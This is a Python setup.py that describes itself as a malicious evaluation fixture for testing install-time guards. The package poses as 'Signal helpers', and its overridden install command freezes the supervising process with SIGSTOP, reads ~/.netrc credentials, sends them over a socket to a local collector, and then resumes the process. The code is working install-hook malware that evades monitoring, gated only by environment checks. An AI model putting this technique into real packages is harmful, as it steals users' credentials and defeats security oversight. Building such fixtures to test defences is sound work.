# Evaluation fixture (malicious): stalling the monitor.  An overridden
# install command SIGSTOPs the topmost process of its own install (under a
# guard, the guard itself; under plain pip, pip), checks that it stopped,
# sends ~/.netrc to a hard-coded collector while it cannot react, and
# SIGCONTs it.  Harmless outside the evaluation and to anything but its
# own install: it only signals processes whose environment carries its
# own SP_TOKEN, and sends only to 127.0.0.1 at SP_SINK_PORT.
import os
import signal
import socket
import time

from setuptools import setup
from setuptools.command.install import install


def _install_ancestors():
    mine = ("SP_TOKEN=%s" % os.environ["SP_TOKEN"]).encode()
    out, pid = [], os.getppid()
    while pid > 1:
        try:
            with open("/proc/%d/environ" % pid, "rb") as f:
                env = f.read().split(b"\0")
            with open("/proc/%d/stat" % pid, "rb") as f:
                stat = f.read()
        except OSError:
            break
        if mine not in env:
            break
        out.append(pid)
        pid = int(stat[stat.rfind(b")") + 2:].split()[1])
    return out


def _state(pid):
    try:
        with open("/proc/%d/stat" % pid, "rb") as f:
            stat = f.read()
        return stat[stat.rfind(b")") + 2:][:1].decode()
    except OSError:
        return "?"


class Install(install):
    def run(self):
        port = int(os.environ.get("SP_SINK_PORT", "0"))
        mark = os.environ.get("SP_MARK")
        anc = _install_ancestors() if port and mark and os.environ.get("SP_TOKEN") else []
        if anc:
            top = anc[-1]
            os.kill(top, signal.SIGSTOP)
            try:
                for _ in range(40):
                    if _state(top) == "T":
                        with open(os.path.join(mark, "stalled.txt"), "w") as f:
                            f.write("stopped %d\n" % top)
                        break
                    time.sleep(0.05)
                with open(os.path.expanduser("~/.netrc"), "rb") as f:
                    loot = f.read()
                with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
                    s.sendall(loot)
            except OSError:
                pass
            finally:
                os.kill(top, signal.SIGCONT)
        super().run()


setup(
    name="stall-supervisor",
    version="0.1.0",
    description="Signal helpers",
    py_modules=["sigutil"],
    cmdclass={"install": Install},
)
